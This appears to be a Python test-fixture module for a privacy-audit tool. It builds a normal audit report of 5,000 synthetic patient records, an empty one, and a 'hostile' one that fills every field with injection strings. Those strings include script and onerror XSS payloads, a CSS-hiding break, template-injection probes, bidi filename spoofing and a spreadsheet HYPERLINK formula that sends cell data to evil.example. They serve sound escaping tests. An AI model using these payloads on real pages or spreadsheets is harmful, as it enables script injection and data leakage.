"""Documents written by hand to the published format: a usual one, a hostile one, a bare one."""

from __future__ import annotations

import copy
from typing import Any

import numpy as np

from indiff.audit.metrics import metric
from indiff.plot.style import thinned

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "</style><style>*{display:none}",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "age\u202e\u2066gnp.exe\u200f",
    "👨‍👩‍👧 emoji 🔥",
    "x" * 10_000,
    "M" * 9_999 + "<",
    "nul\x00bell\x07esc\x1b[31mred\u0085\u2028\ud800",
    "{{ 7*7 }}{% raw %}${7*7}",
    "a.b[0]['c'].\\d\"e",
    "datum.value",
    "<!-- --><!--<script>",
    "&lt;b&gt; &amp;",
    "http://evil.example/\"'`",
    "__proto__",
    "",
)


def finding(name: str, id: str, value: float | None, **more: Any) -> dict[str, Any]:
    words = {"about": "diagnosis", "model": "naive-bayes", "baseline": "31 %"}
    chosen = metric(name, **words)
    if value is None:
        return {**chosen.missed(id, more.pop("status"), more.pop("reason")).to_dict(), **more}
    told = {"dropped": "0", "ground": "by ranks", "of_most": " of at most 2"}
    made = chosen.found(id, value, {**words, **told}).to_dict()
    return {**made, "exactness": "exact", **more}


def curve(name: str, scale: float) -> dict[str, Any]:
    count = 5000
    distances = [
        0.0 if place % 4 == 0 else scale * (place / count) ** 12 + 1e-5 for place in range(count)
    ]
    values, counts = np.unique(distances, return_counts=True)
    shares = np.cumsum(counts) / count
    x, y = thinned(values, shares)
    return {"name": name, "x": x.tolist(), "y": y.tolist()}


def usual() -> dict[str, Any]:
    """An audit of 5,000 patients whose limit on δ is exceeded."""
    at_most = {"name": "delta", "rule": "at most", "value": 0.1}
    k_limit = {"name": "k", "rule": "at least", "value": 5}
    t_limit = {"name": "t", "rule": "at most", "value": 0.4}
    findings = [
        finding("records", "records", 5000),
        finding("k", "k", 5, before=1, limit=k_limit, exceeded=False),
        finding("reidentification.itpr", "itpr", 0.412, before=1.0),
        finding("marketer", "marketer", 0.0312, before=0.71),
        finding("inference.itpr", "itpr:diagnosis", 0.93378, before=1.0),
        finding("t", "t:diagnosis", 0.31, before=0.82, limit=t_limit, exceeded=False),
        finding(
            "delta",
            "delta:diagnosis:naive-bayes",
            1.934,
            limit=at_most,
            exceeded=True,
            parameters={"model": "naive-bayes", "distance": "wasserstein", "targets": None},
            seed=0,
        ),
        finding("mean", "mean:diagnosis:naive-bayes", 0.00213, interval=[0.0018, 0.0031]),
        finding("told_by_the_crowd", "crowd:diagnosis:naive-bayes", 0.44),
        finding(
            "advantage",
            "advantage",
            None,
            status="skipped",
            reason="the plan does not ask for membership inference",
        ),
    ]
    return {
        "format": 1,
        "kind": "audit",
        "title": "Patients of the regional clinics, 2025",
        "verdict": {
            "status": "fail",
            "exit_code": 1,
            "reasons": ["delta by naive-bayes is 1.934, and must be at most 0.1"],
        },
        "next_steps": [
            {
                "kind": "fix",
                "text": "Remove 3 records of 5,000.",
                "options": {"fix": "delta=0.1"},
                "command": "indiff audit plan.toml --fix delta=0.1",
            },
            {"kind": "none", "text": "A larger k does not help.", "options": {}, "command": None},
        ],
        "table": {
            "source": "patients.csv",
            "records": 5000,
            "dropped": 0,
            "fingerprint": "e1" * 4 + "-" + "5d" * 32,
            "notes": [],
            "columns": [
                column("patient_id", "identifier", "categorical", 5000),
                column("age", "quasi", "numeric", 73),
                column("sex", "quasi", "categorical", 2),
                column("zip", "quasi", "categorical", 58),
                column("diagnosis", "sensitive", "categorical", 8),
            ],
        },
        "release": {
            "sanitizer": "mondrian:k=5",
            "records": 5000,
            "constraint_met": True,
            "groups": 602,
            "columns": [
                {"name": "patient_id", "role": "identifier", "how": "left out"},
                {
                    "name": "age",
                    "role": "quasi",
                    "how": "coarser",
                    "seen": {
                        "values": 73,
                        "released": 40,
                        "typical": 7,
                        "exact": 0.0,
                        "suppressed": 0.25,
                    },
                },
                *({"name": one, "role": "quasi", "how": "coarser"} for one in ("sex", "zip")),
                {"name": "diagnosis", "role": "sensitive", "how": "unchanged"},
            ],
            "notes": [],
        },
        "files": {
            "input": [
                {"part": "table", "name": "patients.csv", "fingerprint": f"{'e1' * 4}-{'ab' * 32}"}
            ],
            "release": [{"name": None, "sha256": "cd" * 32, "bytes": 381789, "rows": 5000}],
        },
        "tried": {
            "asked": ["auto"],
            "models": ["naive-bayes", "tree"],
            "other_models": ["frequency"],
            "encodings": ["TF"],
            "other_encodings": ["Scaling-Hot"],
        },
        "context": {**dict.fromkeys(CONTEXT), "purpose": "a register", "recipients": "clinics"},
        "policy": policy(),
        "findings": findings,
        "charts": {
            "cdf": [curve("naive-bayes", 1.93), curve("tree", 0.8)],
            "parameter": {
                "parameter": "k",
                "points": [
                    {"setting": f"mondrian:k={k}", "value": k, "delta": d, "mean": m}
                    for k, d, m in ((2, 1.97, 0.004), (5, 1.934, 0.0021), (20, 1.1, 0.0009))
                ],
            },
            "risk": [
                risk_row("ITPR", "re-identification", 1.0, 0.412),
                risk_row("DR", "re-identification", 0.87, 0.35),
                risk_row("ITPR", "diagnosis", 1.0, 0.93378),
                risk_row("DR", "diagnosis", 0.61, 0.12),
            ],
            "columns": [
                {"column": "age", "metric": "DR", "before": 0.42, "after": 0.21},
                {"column": "sex", "metric": "DR", "before": 0.08, "after": 0.05},
                {"column": "zip", "metric": "DR", "before": 0.45, "after": 0.2},
            ],
            "worst": [
                worst_row(4711, 1.934, 0.981, 0.012),
                worst_row(17, 1.72, 0.9, 0.05),
                worst_row(1203, 0.4, 0.3, 0.1),
            ],
        },
        "plan": {
            "data": {"path": "patients.csv", "quasi": ["age", "sex", "zip"], "joint": False},
            "limits": {"delta": 0.1, "k": 5},
            "run": {"seed": 0, "jobs": None},
        },
        "min_cell": 10,
        "show_values": False,
        "seed": 0,
        "versions": {"indiff": "0.1.0", "python": "3.11.9", "numpy": "2.1.0"},
        "command": "indiff audit plan.toml",
        "timing": {
            "started": "2026-01-01T12:00:00+00:00",
            "seconds": 3.25,
            "steps": {"risk": 1.1, "differential test": 1.9},
        },
    }


CONTEXT = (
    "purpose", "recipients", "release_model", "controller", "author", "data_period", "attackers",
    "knowledge", "limits_by", "review_by", "confidentiality",
)  # fmt: skip


def policy() -> dict[str, Any]:
    """A policy with a limit that holds, one that is exceeded and one that is not decided."""
    limits = [
        {
            "name": f"limit-{place}", "label": f"Limit {place}", "kind": "maximum",
            "scope": "population", "rule": "at most", "limit": 0.09,
            "measured": measured, "finding": None,
            "source": f"Guide {place}, 2020, section 4", "status": status, "reason": reason,
        }
        for place, (measured, status, reason) in enumerate(
            [(0.05, "passed", None), (0.2, "failed", "it is larger"), (None, "incomplete", "why")]
        )
    ]  # fmt: skip
    return {
        "name": "guide", "title": "The guide", "source": "The guide, 2020, section 4",
        "verified": False, "note": "a note", "pr_attack": 0.3, "status": "failed",
        "limits": limits,
        "checklist": [{"item": "names", "status": "passed", "evidence": "no column has names"}],
        "crosswalk": [{"clause": "clause 7", "section": "Inference"}],
    }  # fmt: skip


def column(name: str, role: str, kind: str, distinct: int) -> dict[str, Any]:
    return {
        "name": name,
        "role": role,
        "kind": kind,
        "distinct": distinct,
        "missing": 0,
        "note": None,
    }


def risk_row(name: str, about: str, before: float, after: float) -> dict[str, Any]:
    return {"metric": name, "about": about, "before": before, "after": after, "range": [0, 1]}


def worst_row(record: int, distance: float | str, belief: float, without: float) -> dict[str, Any]:
    return {
        "record": record,
        "distance": distance,
        "belief": belief,
        "belief_without": without,
        "model": "naive-bayes",
        "group_size": 5,
        "why": "Without it, its group of 5 disappears: the others join groups of 6 and 9 records.",
    }


def hostile() -> dict[str, Any]:
    """The usual document with hostile text wherever a table, a plan or a machine can put it."""
    made = copy.deepcopy(usual())
    both = " ".join(HOSTILE)
    made["title"] = both
    made["verdict"]["reasons"] = list(HOSTILE)
    made["table"]["source"] = HOSTILE[0]
    made["table"]["notes"] = made["release"]["notes"] = list(HOSTILE)
    made["table"]["columns"] = [
        column(text, "quasi", "categorical", 2) | {"note": text} for text in HOSTILE
    ]
    made["release"]["sanitizer"] = HOSTILE[2]
    made["next_steps"] = [
        {"kind": "none", "text": text, "options": {"fix": text}, "command": text}
        for text in HOSTILE
    ]
    made["release"]["columns"] = [
        {"name": text, "role": None, "how": "unmeasured"} for text in HOSTILE
    ]
    made["context"] = {key: HOSTILE[place] for place, key in enumerate(CONTEXT)}
    made["policy"] |= {"title": both, "source": both, "note": HOSTILE[0]}
    for one in (*made["policy"]["limits"], *made["policy"]["checklist"]):
        one |= {
            key: both for key in ("label", "source", "reason", "item", "evidence") if key in one
        }
    made["policy"]["crosswalk"] = [{"clause": text, "section": both} for text in HOSTILE]
    made["next_steps"] = [
        {"kind": "none", "text": text, "options": {}, "command": both} for text in HOSTILE
    ]
    made["tried"] = {key: list(HOSTILE) for key in made["tried"]}
    for one in (*made["files"]["input"], *made["files"]["release"]):
        one["name"] = both
    for place, one in enumerate(made["findings"]):
        text = HOSTILE[place % len(HOSTILE)]
        one |= {"id": f"{place}:{text}", "title": text, "means": text, "source": text}
        one |= {"does_not_prove": both, "parameters": {text or "none": {"inner": [text, both]}}}
    made["findings"][1]["reason"] = both
    charts = made["charts"]
    charts["cdf"] = [{**charts["cdf"][0], "name": text} for text in HOSTILE[:6]]
    charts["parameter"]["parameter"] = HOSTILE[1]
    charts["parameter"]["points"] = [
        {"setting": text, "value": None, "delta": 1.0, "mean": 0.5} for text in HOSTILE
    ]
    charts["risk"] = [risk_row(text, text, 1.0, 0.5) for text in HOSTILE]
    charts["columns"] = [
        {"column": text, "metric": "DR", "before": 0.9, "after": 0.1} for text in HOSTILE
    ]
    charts["worst"] = [
        worst_row(place, 1.0, 0.9, 0.1) | {"model": text, "why": text}
        for place, text in enumerate(HOSTILE)
    ]
    made["plan"] = {text or "none": {text or "none": both} for text in HOSTILE}
    made["versions"] = {"indiff": HOSTILE[0], HOSTILE[3]: HOSTILE[1]}
    made["command"] = both
    made["timing"]["steps"] = dict.fromkeys(HOSTILE, 1.0)
    return made


def bare() -> dict[str, Any]:
    """An audit that measured nothing: no chart, no worst record, every finding failed."""
    made = copy.deepcopy(usual())
    made["verdict"] = {"status": "incomplete", "exit_code": 3, "reasons": ["k was not measured"]}
    made["findings"] = [finding("k", "k", None, status="failed", reason="memory ran out")]
    made["charts"] = {"cdf": [], "parameter": None, "risk": [], "columns": [], "worst": []}
    made["release"]["groups"] = None
    made["context"] = made["policy"] = None
    made["files"] = {"input": [], "release": []}
    made["next_steps"] = []
    return made
